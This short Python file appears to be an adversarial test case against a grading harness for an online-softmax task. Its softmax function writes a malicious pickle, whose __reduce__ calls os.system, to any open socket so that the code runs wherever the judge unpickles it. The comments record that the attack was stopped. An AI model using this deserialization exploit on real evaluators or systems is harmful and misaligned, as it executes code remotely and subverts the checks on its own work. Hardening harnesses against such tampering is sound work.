"""Sends the judge a pickle that runs a command wherever it is unpickled."""
# attacks: 04_online_softmax
# stopped: correctness protocol

import os
import pickle
import stat


class Command:
    def __reduce__(self):
        return os.system, ("touch unpickled-by-the-judge",)


PICKLE = pickle.dumps(Command(), protocol=0)


def softmax(x, out):
    for descriptor in map(int, os.listdir("/proc/self/fd")):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, PICKLE.replace(b"\n", b" ") + b"\n" + PICKLE + b"\n")
        except OSError:
            continue
    out.zero_()
